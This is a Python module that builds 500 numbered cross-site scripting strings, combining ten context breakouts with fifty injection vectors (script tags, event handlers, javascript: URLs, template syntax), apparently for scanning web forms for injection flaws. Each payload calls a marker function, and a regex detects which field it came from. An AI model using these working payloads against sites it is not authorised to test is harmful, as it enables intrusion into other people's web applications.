"""Five hundred strings that would run in a browser that takes what a person entered for markup.

Ten ways out of the place that a text stands in, and fifty things to run there. `{}` in a string
is a number, by which each that runs, and each that is shown, says which string of which field it
was.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from typing import Final

WAYS_OUT: Final = (
    *("", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->"),
    *('" ', "' "),
)
VECTORS: Final = (
    "<script>hit({})</script>",
    "<ScRiPt>hit({})</sCrIpT >",
    "<script/x>hit({})</script>",
    "<script src=data:,hit({})></script>",
    "<scr<script>ipt>hit({})</script>",
    "<img src=x onerror=hit({})>",
    "<img/src=x/onerror=hit({})>",
    '<img src=x onerror="hit({})"',
    "<img src=x:x onerror&#61;hit({})>",
    "<image src=x onerror=hit({})>",
    "<svg onload=hit({})>",
    "<svg/onload=hit({})>",
    "<svg><script>hit({})</script>",
    "<svg><script>hit&#40;{})</script>",
    "<svg><animate onbegin=hit({}) attributeName=x>",
    "<svg><a xlink:href=javascript:hit({})>x",
    "<math><img src=x onerror=hit({})>",
    "<math href=javascript:hit({})>x",
    "<body onload=hit({})>",
    "<body onpageshow=hit({})>",
    "<input autofocus onfocus=hit({})>",
    "<textarea autofocus onfocus=hit({})>",
    "<select autofocus onfocus=hit({})>",
    "<button autofocus onfocus=hit({})>x",
    "<a href=javascript:hit({})>x",
    "<details open ontoggle=hit({})>",
    "<video src=x onerror=hit({})>",
    "<video><source onerror=hit({})>",
    "<audio src=x onerror=hit({})>",
    "<iframe src=javascript:parent.hit({})>",
    "<iframe srcdoc='<script>parent.hit({})</script>'>",
    "<iframe onload=hit({})>",
    "<object data=javascript:hit({})>",
    "<object onerror=hit({}) data=x>",
    "<embed src=javascript:hit({})>",
    "<link rel=stylesheet href=x onerror=hit({})>",
    "<style onload=hit({})>",
    "<p onanimationstart=hit({})>",
    "<meta http-equiv=refresh content=0;javascript:hit({})>",
    "<base href=javascript:hit({})//>",
    "<form action=javascript:hit({})>",
    "<isindex action=javascript:hit({})>",
    "<marquee onstart=hit({})>",
    "<template><img src=x onerror=hit({})>",
    "<noscript><p title='</noscript><img src=x onerror=hit({})>'>",
    "autofocus onfocus=hit({}) x=",
    "onpointerenter=hit({}) x=",
    "javascript:hit({})",
    "{{{{hit({})}}}}${{7*7}}",
    "&lt;img src=x onerror=hit({})&gt;",
)
STRINGS: Final = tuple(way + vector for way in WAYS_OUT for vector in VECTORS)
SHOWN: Final = re.compile(r"hit(?:\(|&#40;)(\d+)\)")
_MOST: Final = len(STRINGS)


def of_field(field: int) -> tuple[str, ...]:
    """Every string, numbered for a field (from 1)."""
    return tuple(
        text.replace("{}", str(field * _MOST + number)).replace("{{", "{").replace("}}", "}")
        for number, text in enumerate(STRINGS)
    )


def field_of(number: int) -> int:
    """The field that a number stands for."""
    return number // _MOST


def in_pieces(strings: Sequence[str], longest: int, *, between: str = " ") -> tuple[str, ...]:
    """The strings, as many in a piece as it has room for."""
    pieces: list[str] = []
    for text in strings:
        joint = f"{pieces[-1]}{between}{text}" if pieces else ""
        if joint and len(joint) <= longest:
            pieces[-1] = joint
        else:
            pieces.append(text)
    return tuple(pieces)
